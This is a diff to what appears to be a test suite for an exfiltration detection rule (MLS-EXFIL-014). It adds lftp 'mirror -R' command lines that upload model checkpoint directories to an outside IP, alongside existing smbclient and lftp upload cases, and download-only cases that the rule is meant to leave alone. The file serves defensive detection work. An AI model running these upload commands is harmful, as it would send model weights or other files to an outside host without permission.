@@ -290,11 +290,19 @@ describe('file-sharing tools and client command puts (MLS-EXFIL-014), platform a
       sh("smbclient //203.0.113.5/drop -U u%p -c 'put /mnt/ckpt/model.pt m.pt'"),
       sh('lftp -c "open ftp://203.0.113.5; put /mnt/ckpt/m.pt"'),
       sh("lftp -e 'cd drop; mput /mnt/ckpt/*.pt; bye' ftp://203.0.113.5"),
+      // lftp's reverse mirror given in -e / -c (a tree uploaded), its options before or joined to -R.
+      sh("lftp -e 'mirror -R /mnt/ckpt/llama /up; quit' -u a,b 203.0.113.5"),
+      sh("lftp -e 'mirror -c -R /mnt/ckpt/llama /up; quit' 203.0.113.5"),
+      sh("lftp -e 'mirror -Rc /mnt/ckpt /up; bye' 203.0.113.5"),
+      sh("lftp -c 'open -u a,b 203.0.113.5; mirror --reverse /mnt/ckpt /up'"),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
     for (const argv of [
       sh('croc 7-alpha-beta-gamma'),
       sh("smbclient //fs/share -U u%p -c 'get report.pdf; ls'"),
       sh('lftp -c "open ftp://mirror; get /pub/x.tgz"'),
+      // mirror without -R downloads (`-r` is no recursion).
+      sh("lftp -e 'mirror -r /pub/data /data; quit' ftp.example.org"),
+      sh("lftp -e 'mirror -c /pub/data /data; quit' ftp.example.org"),
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
   });
 
